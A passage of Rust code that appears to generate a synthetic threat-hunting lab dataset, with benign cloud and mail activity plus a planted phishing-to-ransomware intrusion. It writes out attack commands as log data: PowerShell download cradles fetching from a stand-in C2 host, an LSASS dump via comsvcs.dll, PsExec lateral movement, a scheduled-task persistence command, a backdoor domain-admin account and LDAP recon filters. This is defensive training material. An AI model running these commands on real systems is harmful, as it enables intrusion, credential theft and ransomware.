                    ("UrlLocation", "Body".into()),
                    ("ReportId", report_id.into()),
                ],
            );
        }
        message_id
    }

    fn url_click(
        &mut self,
        time: i64,
        url: &str,
        upn: &str,
        message_id: &str,
        action: &str,
        threat: &str,
    ) {
        let report = self.rng.guid();
        self.push(
            "UrlClickEvents",
            vec![
                ("Timestamp", Val::T(time)),
                ("TimeGenerated", Val::T(time)),
                ("Url", url.into()),
                ("ActionType", action.into()),
                ("AccountUpn", upn.into()),
                ("Workload", "Email".into()),
                ("NetworkMessageId", message_id.into()),
                ("ThreatTypes", threat.into()),
                ("IPAddress", "203.0.113.24".into()),
                ("IsClickedThrough", Val::B(action == "ClickAllowed")),
                ("UrlChain", Val::S(json!([url]).to_string())),
                ("ReportId", report.into()),
                ("AppName", "Outlook".into()),
                ("Type", "UrlClickEvents".into()),
            ],
        );
    }

    fn ordinary_cloud_activity(&mut self, day: i64) {
        let time = self.time_on(day, true);
        let user = self.rng.below(self.users.len() as u64) as usize;
        let (application, app_id, action, object) = *self.rng.pick(&[
            (
                "Microsoft Exchange Online",
                20893,
                "MailItemsAccessed",
                "Inbox",
            ),
            (
                "Microsoft SharePoint Online",
                20892,
                "FileDownloaded",
                "Rates 2026.xlsx",
            ),
            (
                "Microsoft SharePoint Online",
                20892,
                "FileModified",
                "Depot contacts.xlsx",
            ),
            ("Microsoft Teams", 28711, "MessageSent", "General"),
            (
                "Microsoft OneDrive for Business",
                15600,
                "FileUploaded",
                "Shift plan.xlsx",
            ),
        ]);
        let u = &self.users[user];
        let row: Row = vec![
            ("Timestamp", Val::T(time)),
            ("ActionType", action.into()),
            ("Application", application.into()),
            ("ApplicationId", Val::L(app_id)),
            ("AccountObjectId", u.object_id.as_str().into()),
            ("AccountId", u.object_id.as_str().into()),
            ("AccountDisplayName", u.name.into()),
            ("IsAdminOperation", Val::B(false)),
            ("DeviceType", "Desktop".into()),
            ("OSPlatform", "Windows 11".into()),
            ("IPAddress", "203.0.113.24".into()),
            ("IsAnonymousProxy", Val::B(false)),
            ("CountryCode", "NL".into()),
            ("City", "Rotterdam".into()),
            ("Isp", "KPN B.V.".into()),
            ("UserAgent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0".into()),
            ("ActivityType", "Basic".into()),
            ("ActivityObjects", Val::J(json!([{"Type": "File", "Name": object}]))),
            ("ObjectName", object.into()),
            ("ObjectType", "File".into()),
            ("ReportId", self.rng.guid().into()),
            ("AccountType", "Regular".into()),
            ("IsExternalUser", Val::B(false)),
            ("IsImpersonated", Val::B(false)),
            ("RawEventData", Val::J(json!({"Operation": action, "Workload": application, "UserId": u.upn}))),
        ];
        self.push("CloudAppEvents", row);
    }

    fn benign_alert(&mut self) {
        let day = self.rng.range(0, LAB_DAYS);
        let time = self.time_on(day, true);
        let device = self.rng.below(self.users.len() as u64) as usize;
        let id = format!("da{}", self.rng.hex(30));
        let title = *self.rng.pick(&[
            "Potentially unwanted application",
            "Suspicious URL clicked",
            "An uncommon file was created and added to startup folder",
        ]);
        self.alert(
            time,
            &id,
            title,
            "SuspiciousActivity",
            "Low",
            "",
            vec![("Machine", "Impacted", device, "", "")],
        );
    }

    /// An alert and its evidence rows: (entity type, role, device, file, command line).
    fn alert(
        &mut self,
        time: i64,
        id: &str,
        title: &str,
        category: &str,
        severity: &str,
        techniques: &str,
        evidence: Vec<(&str, &str, usize, &str, &str)>,
    ) {
        self.push(
            "AlertInfo",
            vec![
                ("Timestamp", Val::T(time)),
                ("AlertId", id.into()),
                ("Title", title.into()),
                ("Category", category.into()),
                ("Severity", severity.into()),
                ("ServiceSource", "Microsoft Defender for Endpoint".into()),
                ("DetectionSource", "EDR".into()),
                ("AttackTechniques", techniques.into()),
            ],
        );
        for (entity, role, device, file, command) in evidence {
            let d = &self.devices[device];
            let (name, id_, ip) = (d.name.clone(), d.id.clone(), d.ip.clone());
            let owner = d.owner.map(|o| {
                (
                    self.users[o].account.clone(),
                    self.users[o].sid.clone(),
                    self.users[o].upn.clone(),
                )
            });
            let mut row: Row = vec![
                ("Timestamp", Val::T(time)),
                ("AlertId", id.into()),
                ("Title", title.into()),
                ("Categories", Val::S(json!([category]).to_string())),
                ("AttackTechniques", techniques.into()),
                ("ServiceSource", "Microsoft Defender for Endpoint".into()),
                ("DetectionSource", "EDR".into()),
                ("EntityType", entity.into()),
                ("EvidenceRole", role.into()),
                ("DeviceId", id_.into()),
                ("DeviceName", name.into()),
                ("LocalIP", ip.into()),
                ("Severity", severity.into()),
            ];
            if !file.is_empty() {
                let file_name = file.rsplit_once('\\').map_or(file, |(_, name)| name);
                let hashes = file_hashes(&file_identity(file));
                row.extend([
                    ("FileName", file_name.into()),
                    ("FolderPath", file.into()),
                    ("SHA1", hashes.sha1.into()),
                    ("SHA256", hashes.sha256.into()),
                ]);
            }
            if !command.is_empty() {
                row.push(("ProcessCommandLine", command.into()));
            }
            if let Some((account, sid, upn)) = owner.filter(|_| entity == "User") {
                row.extend([
                    ("AccountName", account.into()),
                    ("AccountDomain", DOMAIN.into()),
                    ("AccountSid", sid.into()),
                    ("AccountUpn", upn.into()),
                ]);
            }
            self.push("AlertEvidence", row);
        }
    }

    // ---- the intrusions ----------------------------------------------------------------------------

    fn intrusions(&mut self) {
        let victim = 1; // Dana Whitfield, Accounts Payable
        let device = victim; // ws-0102
        let account = self.users[victim].account.clone();
        let upn = self.users[victim].upn.clone();
        let object_id = self.users[victim].object_id.clone();
        let fs = self
            .devices
            .iter()
            .position(|d| d.name.starts_with("fs01"))
            .unwrap_or(0);
        let sql = self
            .devices
            .iter()
            .position(|d| d.name.starts_with("sql01"))
            .unwrap_or(0);
        let c2_ip = "185.220.101.47";
        let c2_host = "cdn-update.kestrel-invoices.example";

        // 1. Phishing: a look-alike invoice domain, clicked, a script downloaded.
        let mail_time = self.planted(12, 9, 14);
        let lure = "https://kestrel-invoices.example/pay/48213";
        let softpass =
            json!({"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "softpass"});
        let message_id = self.mail(Mail {
            time: mail_time,
            sender: "accounts@kestrel-invoices.example",
            sender_name: "Kestrel Logistics Accounts",
            sender_ip: "45.95.147.12",
            recipient: victim,
            subject: "Overdue invoice #48213 \u{2013} payment required today",
            bulk: false,
            authentication: softpass,
            url: Some(lure),
            attachments: 0,
        });
        let click = self.after(mail_time, 6 * 60 + 13);
        self.url_click(click, lure, &upn, &message_id, "ClickAllowed", "");
        let explorer = self.user_proc(
            victim,
            "explorer.exe",
            "C:\\Windows",
            "C:\\Windows\\Explorer.EXE",
            mail_time - 3 * HOUR,
            ("userinit.exe", 5120, mail_time - 3 * HOUR),
        );
        let edge_started = self.soon(click, 420);
        let edge = self.user_proc(victim, "msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", &format!("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument {lure}"), edge_started, ("explorer.exe", explorer.pid, explorer.created));
        self.process_created(device, &explorer, &edge);
        let lure_resolved = self.after(click, 1);
        let t = self.after(click, 2);
        self.connection(
            device,
            &edge,
            t,
            "45.95.147.12",
            443,
            "kestrel-invoices.example",
            "ConnectionSuccess",
        );
        let downloads = format!("C:\\Users\\{account}\\Downloads");
        let t = self.after(click, 9);
        self.file_event(
            device,
            &edge,
            t,
            "FileCreated",
            &downloads,
            "Invoice_48213.js",
            vec![
                (
                    "FileOriginUrl",
                    "https://kestrel-invoices.example/pay/48213/Invoice_48213.js".into(),
                ),
                ("FileOriginReferrerUrl", lure.into()),
                ("FileOriginIP", "45.95.147.12".into()),
            ],
        );

        // 2. The script runs an encoded PowerShell download cradle, which drops the payload.
        let opened = self.after(click, 48);
        let wscript = self.user_proc(
            victim,
            "wscript.exe",
            "C:\\Windows\\System32",
            &format!("\"C:\\Windows\\System32\\WScript.exe\" \"{downloads}\\Invoice_48213.js\""),
            opened,
            ("explorer.exe", explorer.pid, explorer.created),
        );
        self.process_created(device, &explorer, &wscript);
        let cradle =
            format!("IEX (New-Object Net.WebClient).DownloadString('http://{c2_host}/s/upd.ps1')");
        let utf16: Vec<u8> = cradle.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let encoded = base64::engine::general_purpose::STANDARD.encode(utf16);
        let ps_command =
            format!("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {encoded}");
        let ps_started = self.after(opened, 2);
        let ps = self.user_proc(
            victim,
            "powershell.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            &ps_command,
            ps_started,
            ("wscript.exe", wscript.pid, wscript.created),
        );
        self.process_created(device, &wscript, &ps);
        let conhost_started = self.soon(ps.created, 40);
        let conhost = self.user_proc(
            victim,
            "conhost.exe",
            "C:\\Windows\\System32",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            conhost_started,
            ("powershell.exe", ps.pid, ps.created),
        );
        self.process_created(device, &ps, &conhost);
        let c2_resolved = self.after(opened, 3);
        let t = self.after(opened, 4);
        self.connection(device, &ps, t, c2_ip, 80, c2_host, "ConnectionSuccess");
        let t = self.after(opened, 9);
        self.connection(device, &ps, t, c2_ip, 443, c2_host, "ConnectionSuccess");
        let t = self.after(opened, 3);
        self.device_event(
            device,
            &ps,
            t,
            "PowerShellCommand",
            vec![(
                "AdditionalFields",
                Val::S(json!({"Command": "IEX"}).to_string()),
            )],
        );
        let payload_folder = "C:\\ProgramData\\Microsoft\\Crypto";
        let t = self.after(opened, 11);
        self.file_event(
            device,
            &ps,
            t,
            "FileCreated",
            payload_folder,
            "updsvc.exe",
            vec![
                (
                    "FileOriginUrl",
                    format!("http://{c2_host}/s/updsvc.bin").into(),
                ),
                ("FileOriginIP", c2_ip.into()),
            ],
        );
        let payload_started = self.after(opened, 15);
        let mut payload = self.user_proc(
            victim,
            "updsvc.exe",
            payload_folder,
            &format!("\"{payload_folder}\\updsvc.exe\" -k netsvc"),
            payload_started,
            ("powershell.exe", ps.pid, ps.created),
        );
        self.process_created(device, &ps, &payload);
        let t = self.after(opened, 20);
        self.connection(
            device,
            &payload,
            t,
            c2_ip,
            443,
            c2_host,
            "ConnectionSuccess",
        );
        let t = self.soon(payload.created, 380);
        self.image_load(device, &payload, t, "C:\\Windows\\System32", "winhttp.dll");

        // 3. Scheduled-task persistence.
        let persisted = self.after(opened, 14 * 60);
        let task = "\\Microsoft\\Windows\\Maintenance\\UpdateCheck";
        let schtasks = self.user_proc(victim, "schtasks.exe", "C:\\Windows\\System32", &format!("schtasks.exe /Create /TN \"{task}\" /TR \"{payload_folder}\\updsvc.exe -k netsvc\" /SC ONLOGON /RL HIGHEST /F"), persisted, ("powershell.exe", ps.pid, ps.created));
        self.process_created(device, &ps, &schtasks);
        let task_created = self.after(persisted, 1);
        self.device_event(device, &schtasks, task_created, "ScheduledTaskCreated", vec![("AdditionalFields", Val::S(json!({"TaskName": task, "TaskContent": format!("<Task><Actions><Exec><Command>{payload_folder}\\updsvc.exe</Command><Arguments>-k netsvc</Arguments></Exec></Actions><Triggers><LogonTrigger/></Triggers></Task>"), "SubjectUserName": account}).to_string()))]);
        let t = self.soon(task_created, 2);
        self.registry_event(device, &schtasks, t, "RegistryKeyCreated", &format!("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree{task}"), "", "");
        let t = self.soon(t, 1);
        self.registry_event(device, &schtasks, t, "RegistryValueSet", &format!("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree{task}"), "Id", "{8A3F0B5E-2C1D-4B7A-9E6F-4D2C1B0A9F8E}");
        let t = self.after(persisted, 2 * 60);
        self.alert(
            t,
            "da638104829310000001_1702851934",
            "Suspicious PowerShell download cradle",
            "Execution",
            "High",
            "T1059.001, T1105",
            vec![
                ("Machine", "Impacted", device, "", ""),
                ("User", "Impacted", device, "", ""),
                (
                    "Process",
                    "Related",
                    device,
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    &ps_command,
                ),
                (
                    "File",
                    "Related",
                    device,
                    "C:\\ProgramData\\Microsoft\\Crypto\\updsvc.exe",
                    "",
                ),
            ],
        );

        // 4. Credential theft: LSASS dumped with comsvcs.dll MiniDump, from an elevated payload.
        let dumped = self.planted(10, 22, 41);
        let first_payload = payload.clone();
        payload.integrity = "High";
        payload.created = self.after(dumped - 10 * MINUTE, 0);
        let dump_command = "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\ProgramData\\Microsoft\\Crypto\\lsass.dmp full";
        let mut rundll = self.user_proc(
            victim,
            "rundll32.exe",
            "C:\\Windows\\System32",
            dump_command,
            dumped,
            ("updsvc.exe", payload.pid, payload.created),
        );
        rundll.integrity = "High";
        self.process_created(device, &payload, &rundll);
        let t = self.soon(dumped, 50);
        self.image_load(device, &rundll, t, "C:\\Windows\\System32", "comsvcs.dll");
        let t = self.after(dumped, 1);
        self.device_event(
            device,
            &rundll,
            t,
            "OpenProcessApiCall",
            vec![
                ("FileName", "lsass.exe".into()),
                ("FolderPath", "C:\\Windows\\System32\\lsass.exe".into()),
                (
                    "AdditionalFields",
                    Val::S(json!({"DesiredAccess": 2_097_151, "TargetProcessId": 724}).to_string()),
                ),
            ],
        );
        let t = self.after(dumped, 3);
        self.file_event(
            device,
            &rundll,
            t,
            "FileCreated",
            payload_folder,
            "lsass.dmp",
            vec![],
        );
        let t = self.after(dumped, 60);
        self.alert(
            t,
            "da638104829310000002_1702851935",
            "Process memory dump of LSASS",
            "CredentialAccess",
            "High",
            "T1003.001",
            vec![
                ("Machine", "Impacted", device, "", ""),
                (
                    "Process",
                    "Related",
                    device,
                    "C:\\Windows\\System32\\rundll32.exe",
                    dump_command,
                ),
                (
                    "File",
                    "Related",
                    device,
                    "C:\\ProgramData\\Microsoft\\Crypto\\lsass.dmp",
                    "",
                ),
            ],
        );

        // 5. Lateral movement with PsExec and the stolen admin account.
        let admin_account = "adm-jchen";
        let admin_sid = format!("{SID_PREFIX}-1500");
        let moved = self.planted(9, 2, 17);
        let ws_ip = self.devices[device].ip.clone();
        let ws_name = self.devices[device].name.clone();
        let mut admin_logon = moved;
        let mut remote_nets = Vec::new();
        for (step, target) in [fs, sql].into_iter().enumerate() {
            let when = self.after(moved, step as i64 * 23 * 60);
            let target_name = self.devices[target].name.clone();
            let short = target_name.split('.').next().unwrap_or("").to_string();
            let target_ip = self.devices[target].ip.clone();
            let cmd_started = self.after(when - 30 * SECOND, 0);
            let mut cmd = self.user_proc(
                victim,
                "cmd.exe",
                "C:\\Windows\\System32",
                "cmd.exe /c",
                cmd_started,
                ("updsvc.exe", payload.pid, payload.created),
            );
            cmd.account = admin_account.to_string();
            cmd.account_sid = admin_sid.clone();
            cmd.account_upn = format!("{admin_account}@{MAIL_DOMAIN}");
            cmd.integrity = "High";
            self.process_created(device, &payload, &cmd);
            let mut psexec = self.user_proc(victim, "PsExec.exe", "C:\\ProgramData\\Microsoft\\Crypto", &format!("PsExec.exe \\\\{short} -accepteula -s cmd.exe /c \"net group \\\"Domain Admins\\\" /domain & whoami /all\""), when, ("cmd.exe", cmd.pid, cmd.created));
            psexec.account = cmd.account.clone();
            psexec.account_sid = admin_sid.clone();
            psexec.account_upn = cmd.account_upn.clone();
            psexec.integrity = "High";
            self.process_created(device, &cmd, &psexec);
            let t = self.after(when, 1);
            self.connection(device, &psexec, t, &target_ip, 445, "", "ConnectionSuccess");
            let logon_time = self.after(when, 2);
            if step == 0 {
                admin_logon = logon_time;
            }
            self.logon(
                target,
                logon_time,
                "LogonSuccess",
                "Network",
                (admin_account, &admin_sid),
                (&ws_name, &ws_ip),
                "NTLM",
                "",
            );
            let system = self.system_proc("System", "", when - 20 * DAY);
            let t = self.after(when, 3);
            self.file_event(
                target,
                &system,
                t,
                "FileCreated",
                "C:\\Windows",
                "PSEXESVC.exe",
                vec![
                    ("RequestProtocol", "SMB".into()),
                    ("RequestSourceIP", ws_ip.as_str().into()),
                    ("RequestAccountName", admin_account.into()),
                    ("RequestAccountDomain", DOMAIN.into()),
                    ("RequestAccountSid", admin_sid.as_str().into()),
                    ("ShareName", "ADMIN$".into()),
                ],
            );
            let services = self.system_proc(
                "services.exe",
                "C:\\Windows\\system32\\services.exe",
                when - 20 * DAY,
            );
            let t = self.after(when, 4);
            let mut service = self.system_proc("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", t);
            service.folder = "C:\\Windows".into();
            self.process_created(target, &services, &service);
            let t = self.after(when, 5);
            let remote_cmd = self.system_proc(
                "cmd.exe",
                "cmd.exe /c \"net group \"Domain Admins\" /domain & whoami /all\"",
                t,
            );
            self.process_created(target, &service, &remote_cmd);
            let t = self.after(when, 6);
            let net = self.system_proc("net.exe", "net  group \"Domain Admins\" /domain", t);
            self.process_created(target, &remote_cmd, &net);
            remote_nets.push((target, net.created));
            let t = self.soon(service.created, 120);
            self.device_event(target, &services, t, "ServiceInstalled", vec![("AdditionalFields", Val::S(json!({"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem", "ServiceStartType": 3}).to_string())), ("FileName", "PSEXESVC.exe".into()), ("FolderPath", "C:\\Windows\\PSEXESVC.exe".into())]);
        }
        let report_id = self.rng.guid();
        self.push(
            "IdentityLogonEvents",
            vec![
                ("Timestamp", Val::T(admin_logon)),
                ("ActionType", "LogonSuccess".into()),
                ("Application", "Active Directory".into()),
                ("LogonType", "Resource access".into()),
                ("Protocol", "Ntlm".into()),
                ("AccountName", admin_account.into()),
                ("AccountDomain", format!("{DOMAIN}.local").into()),
                (
                    "AccountUpn",
                    format!("{admin_account}@{MAIL_DOMAIN}").into(),
                ),
                ("AccountSid", admin_sid.as_str().into()),
                ("AccountDisplayName", "Jamie Chen (admin)".into()),
                ("DeviceName", ws_name.as_str().into()),
                ("IPAddress", ws_ip.as_str().into()),
                (
                    "DestinationDeviceName",
                    self.devices[fs].name.clone().into(),
                ),
                ("DestinationIPAddress", self.devices[fs].ip.clone().into()),
                ("DestinationPort", Val::L(445)),
                ("ReportId", report_id.into()),
                (
                    "AdditionalFields",
                    Val::J(json!({"Count": 1, "Category": "Initial Access"})),
                ),
            ],
        );
        let t = self.after(moved, 5 * 60);
        self.alert(
            t,
            "da638104829310000003_1702851936",
            "Suspicious service launched (PsExec)",
            "LateralMovement",
            "Medium",
            "T1021.002, T1569.002",
            vec![
                ("Machine", "Impacted", fs, "C:\\Windows\\PSEXESVC.exe", ""),
                ("Machine", "Related", device, "", ""),
            ],
        );

        // 6. A plain-text cradle on a second workstation (someone pasted the lure's "fix").
        let second = 16; // Ravi Patel, Payroll
        let pasted = self.planted(6, 14, 2);
        let explorer2 = self.user_proc(
            second,
            "explorer.exe",
            "C:\\Windows",
            "C:\\Windows\\Explorer.EXE",
            pasted - HOUR,
            ("userinit.exe", 4412, pasted - HOUR),
        );
        let plain = format!(
            "powershell.exe -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://{c2_ip}/stage2.ps1')\""
        );
        let ps2 = self.user_proc(
            second,
            "powershell.exe",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            &plain,
            pasted,
            ("explorer.exe", explorer2.pid, explorer2.created),
        );
        self.process_created(second, &explorer2, &ps2);
        let t = self.after(pasted, 2);
        self.connection(second, &ps2, t, c2_ip, 80, "", "ConnectionSuccess");
        let t = self.after(pasted, 3);
        self.connection(second, &ps2, t, c2_ip, 443, "", "ConnectionFailed");

        // 7. Mass renames on the file server: the files become *.kestrel, a ransom note appears.
        let encrypted = self.planted(3, 3, 6);
        let locker_started = self.after(encrypted - MINUTE, 0);
        let mut locker = self.system_proc(
            "kx.exe",
            "C:\\Windows\\Temp\\kx.exe --path D:\\Shares --ext kestrel",
            locker_started,
        );
        locker.folder = "C:\\Windows\\Temp".into();
        locker.account = admin_account.into();
        locker.account_sid = admin_sid.clone();
        locker.integrity = "High";
        let t = self.after(encrypted - 2 * MINUTE, 0);
        let service = self.system_proc("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", t);
        self.process_created(fs, &service, &locker);
        let count = 240;
        // One file after another, each taking its own time (0.35 to 1.05 s).
        let mut t = encrypted;
        for i in 0..count {
            let share = ["Finance", "Operations", "HR", "Sales"][i % 4];
            let stem = format!(
                "{}_{}",
                [
                    "ledger", "routes", "payroll", "pipeline", "tariffs", "contract"
                ][i % 6],
                100 + i
            );
            let ext = ["xlsx", "docx", "pdf"][i % 3];
            if i > 0 {
                let gap = self.clock.range(350, 1050);
                t = self.soon(t, gap);
            }
            let folder = format!("D:\\Shares\\{share}");
            let old = format!("{stem}.{ext}");
            self.file_event(
                fs,
                &locker,
                t,
                "FileRenamed",
                &folder,
                &format!("{old}.kestrel"),
                vec![
                    ("PreviousFileName", old.as_str().into()),
                    ("PreviousFolderPath", folder.as_str().into()),
                ],
            );
        }
        let noted = self.after(t, 9);
        for share in ["Finance", "Operations", "HR", "Sales"] {
            let gap = self.clock.range(5, 60);
            let t = self.soon(noted, gap);
            self.file_event(
                fs,
                &locker,
                t,
                "FileCreated",
                &format!("D:\\Shares\\{share}"),
                "README_RESTORE_FILES.txt",
                vec![],
            );
        }
        let t = self.after(noted, 60);
        self.alert(
            t,
            "da638104829310000004_1702851937",
            "Ransomware behavior detected in the file system",
            "Ransomware",
            "High",
            "T1486",
            vec![(
                "Machine",
                "Impacted",
                fs,
                "C:\\Windows\\Temp\\kx.exe",
                "C:\\Windows\\Temp\\kx.exe --path D:\\Shares --ext kestrel",
            )],
        );

        // The attacker reads the victim's mail from the command-and-control network.
        let report_id = self.rng.guid();
        let mailbox_read = self.planted(11, 23, 50);
        self.push("CloudAppEvents", vec![
            ("Timestamp", Val::T(mailbox_read)),
            ("ActionType", "MailItemsAccessed".into()),
            ("Application", "Microsoft Exchange Online".into()),
            ("ApplicationId", Val::L(20893)),
            ("AccountObjectId", object_id.as_str().into()),
            ("AccountId", object_id.as_str().into()),
            ("AccountDisplayName", self.users[victim].name.into()),
            ("IPAddress", c2_ip.into()),
            ("IsAnonymousProxy", Val::B(true)),
            ("CountryCode", "DE".into()),
            ("Isp", "Tor exit".into()),
            ("UserAgent", "python-requests/2.31.0".into()),
            ("ActivityType", "Basic".into()),
            ("ActivityObjects", Val::J(json!([{"Type": "Mailbox", "Name": upn}]))),
            ("ObjectName", "Inbox".into()),
            ("ReportId", report_id.into()),
            ("AccountType", "Regular".into()),
            ("IsExternalUser", Val::B(false)),
            ("IsImpersonated", Val::B(false)),
            ("RawEventData", Val::J(json!({"Operation": "MailItemsAccessed", "ClientIPAddress": c2_ip, "UserId": upn}))),
        ]);
        self.story.mailbox_read = Some((mailbox_read, victim, c2_ip.to_string()));

        // What the domain controllers saw. The victim's workstation resolved the lure and the
        // command-and-control host through them.
        let dc = self.device_named("dc01");
        let dc_ip = self.devices[dc].ip.clone();
        for (time, name) in [
            (lure_resolved, "kestrel-invoices.example"),
            (c2_resolved, c2_host),
        ] {
            self.directory_query(DirectoryQuery {
                time,
                protocol: Protocol::Dns,
                query_type: "A",
                target: name,
                query: name,
                source: device,
                actor: None,
                target_user: None,
                dc,
            });
        }

        // The evening of the LSASS dump, the payload maps the domain: sixteen LDAP searches in
        // under a minute (the privileged groups, roastable accounts, passwords left in
        // descriptions, servers by operating system, the domain controllers), each over its own
        // connection to dc01.
        let me = self.actor(victim);
        let recon = self.planted(10, 22, 18);
        let mut t = recon - recon.rem_euclid(MINUTE) + self.clock.range(1, 8) * SECOND;
        let searches: [(&str, &str, &str); 16] = [
            (
                "QueryGroup",
                "Domain Admins",
                "(&(objectCategory=group)(cn=Domain Admins))",
            ),
            (
                "QueryGroup",
                "Enterprise Admins",
                "(&(objectCategory=group)(cn=Enterprise Admins))",
            ),
            (
                "QueryGroup",
                "Administrators",
                "(&(objectCategory=group)(cn=Administrators))",
            ),
            (
                "QueryGroup",
                "Backup Operators",
                "(&(objectCategory=group)(cn=Backup Operators))",
            ),
            (
                "QueryGroup",
                "Account Operators",
                "(&(objectCategory=group)(cn=Account Operators))",
            ),
            (
                "QueryGroup",
                "Group Policy Creator Owners",
                "(&(objectCategory=group)(cn=Group Policy Creator Owners))",
            ),
            (
                "EnumerateUsers",
                "kestrel.local",
                "(&(objectCategory=person)(objectClass=user)(admincount=1))",
            ),
            (
                "EnumerateUsers",
                "kestrel.local",
                "(&(objectCategory=person)(objectClass=user)(servicePrincipalName=*))",
            ),
            (
                "EnumerateUsers",
                "kestrel.local",
                "(&(samAccountType=805306368)(servicePrincipalName=*)(!samAccountName=krbtgt)(!(UserAccountControl:1.2.840.113556.1.4.803:=2)))",
            ),
            (
                "EnumerateUsers",
                "kestrel.local",
                "(&(objectCategory=person)(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))",
            ),
            (
                "EnumerateUsers",
                "kestrel.local",
                "(&(objectCategory=person)(objectClass=user)(description=*pass*))",
            ),
            (
                "EnumerateUsers",
                "kestrel.local",
                "(&(samAccountType=805306368)(comment=*pass*))",
            ),
            (
                "EnumerateComputers",
                "kestrel.local",
                "(&(objectCategory=computer)(objectClass=computer)(operatingSystem=*server*))",
            ),
            (
                "EnumerateComputers",
                "Domain Controllers",
                "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
            ),
            (
                "QueryDomain",
                "kestrel.local",
                "(objectClass=trustedDomain)",
            ),
            (
                "QueryGpo",
                "kestrel.local",
                "(objectClass=groupPolicyContainer)",
            ),
        ];
        for (query_type, target, filter) in searches {
            let gap = self.clock.range(1200, 2800);
            t = self.soon(t, gap);
            // The connection opens a little before the query, in the same second.
            let opened = t - t.rem_euclid(SECOND) / 10;
            self.connection(
                device,
                &first_payload,
                opened,
                &dc_ip,
                389,
                "",
                "ConnectionSuccess",
            );
            self.directory_query(DirectoryQuery {
                time: t,
                protocol: Protocol::Ldap,
                query_type,
                target,
                query: &identity::ldap(filter),
                source: device,
                actor: Some(&me),
                target_user: None,
                dc,
            });
        }

        // `net group "Domain Admins" /domain`, run through PsExec as SYSTEM, asks over SAMR
        // with the server's own account.
        for (target, at) in remote_nets {
            let machine = self.machine_actor(target);
            let gap = self.clock.range(80, 400);
            let time = self.soon(at, gap);
            self.directory_query(DirectoryQuery {
                time,
                protocol: Protocol::Samr,
                query_type: "QueryGroup",
                target: "Domain Admins",
                query: "QueryGroup",
                source: target,
                actor: Some(&machine),
                target_user: None,
                dc,
            });
        }

        // 5b. A domain admin of the attacker's own: from the victim's workstation, the stolen
        // admin account creates `svc-update` and adds it to Domain Admins and Enterprise Admins.
        let admin = identity::admin_actor();
        let backdoor = self.after(moved, 41 * 60);
        let mut shell = self.user_proc(
            victim,
            "cmd.exe",
            "C:\\Windows\\System32",
            "cmd.exe /c",
            backdoor - 20 * SECOND,
            ("updsvc.exe", payload.pid, payload.created),
        );
        shell.account = admin.name.clone();
        shell.account_sid = admin.sid.clone();
        shell.account_upn = admin.upn.clone();
        shell.integrity = "High";
        self.process_created(device, &payload, &shell);
        let new_account = "svc-update";
        let new_upn = format!("{new_account}@{MAIL_DOMAIN}");
        let steps = [
            (
                format!("net  user {new_account} Upd4te!Svc2024 /add /domain"),
                "User Account Created",
                json!({"TARGET_OBJECT.USER": new_account}),
            ),
            (
                format!("net  group \"Domain Admins\" {new_account} /add /domain"),
                "Group Membership changed",
                json!({"TO.GROUP": "Domain Admins", "TARGET_OBJECT.USER": new_account, "ACTOR.ACCOUNT": admin.name}),
            ),
            (
                format!("net  group \"Enterprise Admins\" {new_account} /add /domain"),
                "Group Membership changed",
                json!({"TO.GROUP": "Enterprise Admins", "TARGET_OBJECT.USER": new_account, "ACTOR.ACCOUNT": admin.name}),
            ),
        ];
        let mut when = backdoor;
        let mut created_at = backdoor;
        for (i, (command, action, additional)) in steps.into_iter().enumerate() {
            if i > 0 {
                when = self.after(when, 11);
            }
            let mut net = self.user_proc(
                victim,
                "net.exe",
                "C:\\Windows\\System32",
                &command,
                when,
                ("cmd.exe", shell.pid, shell.created),
            );
            net.account = admin.name.clone();
            net.account_sid = admin.sid.clone();
            net.account_upn = admin.upn.clone();
            net.integrity = "High";
            self.process_created(device, &shell, &net);
            let gap = self.clock.range(300, 900);
            let changed = self.soon(when, gap);
            if i == 0 {
                created_at = changed;
            }
            self.directory_change(DirectoryChange {
                time: changed,
                action,
                actor: &admin,
                source: device,
                target_upn: &new_upn,
                target_name: new_account,
                target_device: "",
                additional,
            });
        }
        let synced = self.after(created_at, 40 * 60);
        let report = self.rng.guid();
        let object_id = self.rng.guid();
        self.push(
            "IdentityInfo",
            vec![
                ("Timestamp", Val::T(synced)),
                ("ReportId", report.into()),
                ("AccountObjectId", object_id.into()),
                ("AccountUpn", new_upn.as_str().into()),
                ("OnPremSid", format!("{SID_PREFIX}-1630").into()),
                ("AccountDisplayName", new_account.into()),
                ("AccountName", new_account.into()),
                ("AccountDomain", format!("{DOMAIN}.local").into()),
                ("CriticalityLevel", Val::L(1)),
                ("Type", "User".into()),
                (
                    "DistinguishedName",
                    format!("CN={new_account},CN=Users,DC={DOMAIN},DC=local").into(),
                ),
                ("IsAccountEnabled", Val::B(true)),
                ("CreatedDateTime", Val::T(created_at)),
                ("CompanyName", "".into()),
                ("AssignedRoles", Val::J(json!([]))),
                ("Tags", Val::J(json!([]))),
                ("SourceProviders", Val::J(json!(["ActiveDirectory"]))),
                ("RiskLevel", "".into()),
                ("IdentityEnvironment", "On-Premises".into()),
                (
                    "GroupMembership",
                    Val::J(json!([
